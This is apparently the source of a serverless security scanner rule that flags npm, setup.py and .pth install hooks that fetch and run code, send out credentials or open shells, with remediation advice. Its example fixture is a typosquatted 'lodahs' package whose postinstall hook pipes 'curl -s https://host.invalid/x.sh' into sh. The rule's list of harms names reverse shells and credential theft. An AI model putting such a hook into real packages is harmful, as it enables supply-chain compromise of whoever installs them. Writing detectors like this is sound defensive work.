"""A package runs harmful code when it is installed.

## What it finds

Hooks of npm (`preinstall`, `install`, `postinstall`), `setup.py` and lines of `.pth` files, in code and layers, that run
what they fetch or decode, send credentials or the whole environment away, or hide what they do. Hooks that build native code
or fetch a program from its publisher are as they should be. What is sure is high; what is merely telling is low.

## Why it matters

The code ran on the machine that built the function, with its credentials, before anybody looked at the package. A worm in a
package gets from there into the packages of who installs it.

## How to fix

Do not run it. Look at the file; if nobody in the project wrote it, take the component out, build the function anew on a
clean machine, and change every secret that the function, its role or the machine that built it could read. Install without
hooks (`npm ci --ignore-scripts`, `pip install --only-binary :all:`).

## Examples

### fires: a hook that pipes what it fetches into a shell

```yaml template.yaml
Resources:
  Orders:
    Type: AWS::Lambda::Function
    Properties:
      Runtime: nodejs24.x
      Code: src # <- LWP058
```

```json src/node_modules/lodahs/package.json
{"name": "lodahs", "version": "1.0.0", "scripts": {"postinstall": "curl -s https://host.invalid/x.sh | sh"}}
```

### silent: hooks that build, and code that fetches without running

```yaml template.yaml
Resources:
  Orders:
    Type: AWS::Lambda::Function
    Properties:
      Runtime: nodejs24.x
      Code: src
```

```json src/node_modules/native/package.json
{"name": "native", "version": "1.0.0", "scripts": {"install": "node-gyp rebuild", "postinstall": "node install.js"}}
```

```js src/node_modules/native/install.js
require("https").get("https://host.invalid/native.tar.gz", save);
```

### unknown: the package cannot be read

```yaml template.yaml
Resources:
  Orders:
    Type: AWS::Lambda::Function
    Properties:
      Runtime: nodejs24.x
      Code: orders.zip # ?- LWP058
```

```text orders.zip
this is no archive
```

## References

- https://docs.npmjs.com/cli/v11/using-npm/scripts
- https://attack.mitre.org/techniques/T1195/002/
"""

from collections.abc import Iterator

from lambdaward.analysis import Analysis
from lambdaward.rules import Doubt, Found, Severity, Standards, rule
from lambdaward.rules.packages.suspects import is_installer, told

STANDARDS = Standards(
    owasp_serverless=("A9",),
    cwe=(
        "CWE-506",
        "CWE-829",
    ),
    mitre_attack=(
        "T1195.002",
        "T1059",
        "T1105",
        "T1546.018",
    ),
)
DOES = {
    "decoded-code": "runs code that it decodes first",
    "fetched-code": "runs code that it fetches",
    "remote-commands": "runs what somebody sends it",
    "credentials-sent": "reads credentials and uses the network, or hides what it does",
    "reverse-shell": "gives a shell to who listens",
    "persistence": "writes itself to what runs at the next start",
}


@rule("LWP058", "malicious-install-script", Severity.HIGH, standards=STANDARDS)
def malicious_install_script(analysis: Analysis) -> Iterator[Found | Doubt]:
    """What is run when a package is installed, or Python starts."""
    yield from told(analysis, DOES, "does {} hold a package that does harm when it is installed?", where=is_installer)
